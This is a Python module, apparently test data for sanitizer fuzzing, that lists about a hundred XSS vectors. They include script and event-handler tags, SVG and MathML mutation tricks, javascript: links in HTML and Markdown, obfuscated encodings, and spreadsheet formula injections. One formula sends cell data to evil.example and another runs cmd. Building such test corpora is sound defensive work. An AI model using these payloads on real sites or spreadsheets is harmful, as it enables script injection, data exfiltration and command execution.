"""Words that somebody else's page would have run: each calls ``alert``, or makes an element, an attribute or an address of its own."""

LONG = "A" * 3_000
# Fired by themselves when their HTML is put into a page, or by whoever touches what they make.
ELEMENTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script\x0c>alert(3)</script\x0c>",
    "<script src=data:text/javascript,alert(4)></script>",
    "<script type=module>alert(5)</script>",
    "<scr<script>ipt>alert(6)</scr</script>ipt>",
    "<img src=x onerror=alert(7)>",
    "<img/src=x/onerror=alert(8)>",
    "<IMG SRC=x OnErRoR=alert(9)>",
    "<img src=x\nonerror=alert(10)>",
    "<img src=`x`onerror=alert(11)>",
    "<svg onload=alert(12)>",
    "<svg><script>alert(13)</script></svg>",
    "<svg><animate onbegin=alert(14) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(15)><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(16)>#x'></use></svg>",
    "<svg><foreignObject><img src=x onerror=alert(17)></foreignObject></svg>",
    "<svg><a><set attributeName=href to=javascript:alert(18)></set><text y=20>x</text></a></svg>",
    "<math><a xlink:href=javascript:alert(19)>x</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(20)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(21)>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(22)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(23)>'>",
    "<template><img src=x onerror=alert(24)></template>",
    "<iframe srcdoc='<script>parent.alert(25)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(26)></iframe>",
    "<object data='data:text/html,<script>alert(27)</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=alert(28)>'>",
    "<picture><source srcset=x><img src=x onerror=alert(29)></picture>",
    "<details open ontoggle=alert(30)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(31)>",
    "<video><source onerror=alert(32)></video>",
    "<audio src=x onerror=alert(33)>",
    "<marquee onstart=alert(34)>x</marquee>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert(35)>x</p>",
    "<p style='position:fixed;inset:0;background:url(javascript:alert(36))'>x</p>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href='data:text/css,*{display:none}'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(37)'>",
    "<base href='https://evil.example/'>",
    "<form action=javascript:alert(38)><button>Post</button></form>",
    "<button formaction=javascript:alert(39)>x</button>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(40)>x</p>",
    "<xss contenteditable onfocus=alert(41) autofocus tabindex=1>x</xss>",
    "<a href=javascript:alert(42)>x</a>",
    "<a href='java&#09;script:alert(43)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(44)'>x</a>",
    "<a href='data:text/html,<script>alert(45)</script>'>x</a>",
    "<a id=currentScript href=javascript:alert(46)><img name=cookie src=x onerror=alert(46)>",
    "<form id=take><input name=attributes><input name=action onfocus=alert(47) autofocus>",
    "<!--><img src=x onerror=alert(48)>-->",
    "<!--<img src='--><img src=x onerror=alert(49)//'>",
    "<![CDATA[<img src=x onerror=alert(50)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(51)>",
    "<textarea></textarea><img src=x onerror=alert(52)></textarea>",
    "</textarea><script>alert(53)</script>",
    "</title><script>alert(54)</script>",
    "'\"><img src=x onerror=alert(55)>",
    '" autofocus onfocus=alert(56) x="',
    "' onmouseover='alert(57)' x='",
    "</p></div></article></main><img src=x onerror=alert(58)>",
    "<img src=x onerror=alert(59)\x00>",
    "<im\x00g src=x onerror=alert(60)>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(61)//'>",
]
# What Markdown would make of it.
MARKDOWN = [
    "[x](javascript:alert(62))",
    "[x](JaVaScRiPt:alert(63))",
    "[x](java\tscript:alert(64))",
    "[x](java\nscript:alert(65))",
    "[x](java&Tab;script:alert(66))",
    "[x](&#106;avascript:alert(67))",
    "[x](&#x6A;avascript&colon;alert(68))",
    "[x](\x01javascript:alert(69))",
    "[x](<javascript:alert(70)>)",
    "[x](vbscript:msgbox(71))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCg3MSk8L3NjcmlwdD4=)",
    "<javascript:alert(72)>",
    "![x](javascript:alert(73))",
    "[![x](x)](javascript:alert(74))",
    '![x" onerror="alert(75)](x)',
    "[x](https://example.org 'a\" onmouseover=alert(76) b=\"')",
    '[x](https://example.org" onmouseover=alert(77) x=")',
    '[x" onmouseover=alert(78) y="](https://example.org)',
    "[x]: javascript:alert(79)\n\n[x]",
    "[x][y]\n\n[y]: javascript:alert(80) 'title\" onclick=alert(80)'",
    "[[x](javascript:alert(81))](https://example.org)",
    "[<img src=x onerror=alert(82)>](https://example.org)",
    "**<img src=x onerror=alert(83)>**",
    "> <img src=x onerror=alert(84)>",
    "- <svg onload=alert(85)>",
    "# <img src=x onerror=alert(86)>",
    "|a|\n|-|\n|<img src=x onerror=alert(87)>|",
    "x {: onclick=alert(88) }",
    "[^1]\n\n[^1]: <img src=x onerror=alert(89)>",
    "https://example.org/'><img src=x onerror=alert(90)>",
    '<https://example.org/"onmouseover=alert(91)//>',
]
# What only breaks something, if anything.
WORDS = [
    "`<img src=x onerror=alert(92)>`",
    "&lt;img src=x onerror=alert(93)&gt;",
    "{{ 7 * 7 }} {% raw %} ${7 * 7} #{7 * 7} <%= 7 * 7 %>",
    "\u202e<img src=x onerror=alert(94)>\u2066",
    "＜script＞alert(95)＜/script＞",
    "\ufeff<\u200bscript>alert(96)</script>",
    "\ue000<script>\ue001alert(97)\ue002</script>\ue003",
    "+ADw-script+AD4-alert(98)+ADw-/script+AD4-",
    '=HYPERLINK("https://evil.example?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b$B<script>\x1b(Balert(99)</script>",
    LONG,
]
VECTORS = [*ELEMENTS, *MARKDOWN, *WORDS]
# Those that can be a line of a form, and words that stand in a clause as code.
LINES = [each for each in VECTORS if not set(each) & set("\n\t\x00\x01\x0c\x1b`\u202e") and each != LONG]
LONGEST = 900


def chunks(*, most: int = LONGEST) -> list[str]:
    """All vectors in as few texts as there is room for them."""
    found = [""]
    for vector in VECTORS:
        if len(found[-1]) + len(vector) > most:
            found.append("")
        found[-1] += f"{vector[: most - 2]}\n\n"
    return found
